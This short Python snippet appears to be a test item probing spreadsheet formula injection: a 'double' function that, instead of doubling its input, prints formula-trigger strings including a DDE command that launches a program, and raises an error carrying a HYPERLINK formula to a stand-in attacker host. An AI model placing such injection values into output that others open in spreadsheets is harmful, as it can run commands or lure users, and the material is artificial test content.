# attack: print and raise what a spreadsheet takes for a formula
# exercise: double
# verdict: failed
def double(x):
    print("=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", sep="\n")
    raise ValueError('=HYPERLINK("http://evil.example", "click")')
